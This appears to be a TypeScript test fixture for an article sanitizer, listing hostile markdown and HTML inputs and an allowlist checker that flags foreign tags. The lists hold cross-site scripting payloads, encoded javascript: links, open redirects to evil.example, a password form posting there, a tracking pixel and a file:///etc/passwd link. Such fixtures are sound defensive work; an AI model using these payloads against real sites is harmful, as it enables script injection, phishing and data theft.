const PICTURE = '/media/i/0123456789abcdef/640.webp';

/** Texts that people have written into articles to run script, or to lead readers elsewhere (security 22). */
export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="https://evil.example" target=_blank>x</a>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action=https://evil.example><input name=password></form>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<div\nonmouseover=alert(1)>x</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/login)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](/%09/evil.example)',
  '[x](https:evil.example)',
  '[x](https://details@evil.example/)',
  '[x](file:///etc/passwd)',
  '[x](mailto:a@b.zm,c@d.zm@e.zm)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  `![x" onerror="alert(1)](${PICTURE})`,
  `![x](${PICTURE} "t\\" onload=\\"alert(1)")`,
  `![x](${PICTURE}?next=https://evil.example)`,
  '![x](/media/i/../../api/profile)',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '**<b onclick=alert(1)>**',
];

/** HTML as a hand in the table, or a bug of another day, could have left it. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script><p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a><a href="//evil.example">y</a><a href="/details/12" target="_blank">z</a>',
  `<img src="https://evil.example/x.png"><img src="${PICTURE}" onerror="alert(1)" style="width:100vw" height="900">`,
  '<style>p{display:none}</style><svg><p><style><!--</style><img title="--><img src=x onerror=alert(1)>"></svg>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><base href="https://evil.example">',
  '<p><table><td><form><input autofocus onfocus=alert(1)>',
  '<a href="java&#10;script:alert(1)">x</a><a href=" javascript:alert(1)">y</a>',
  '<p>open <b>and never <i>closed',
];

const TEXT_TAGS =
  /^<\/?(h[1-4]|p|blockquote|ul|ol|li|pre|code|strong|em|del|a|figure|table|thead|tbody|tr|th|td)>$/;
const ALLOWED = [
  TEXT_TAGS,
  /^<(hr|br) \/>$/,
  /^<ol start="\d+">$/,
  /^<a href="(\/(?![/\\])[^"\s\\]*|https?:\/\/[^"\s\\/@]+(\/[^"\s\\]*)?|mailto:[^"\s\\@:/]+@[^"\s\\@:/]+)" rel="noopener nofollow">$/,
  /^<img src="\/media\/i\/[0-9a-f]{16,64}\/\d+\.webp" alt="[^"<>]*"( height="20")?( loading="lazy")? \/>$/,
];

/** Parts of a piece of HTML that an article may not have: tags that are none of ours, and signs that open one. */
export function notAllowed(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  const foreign = tags.filter((tag) => !ALLOWED.some((form) => form.test(tag)));
  const rest = html.replace(/<[^>]*>/g, '');
  return rest.includes('<') ? [...foreign, rest] : foreign;
}
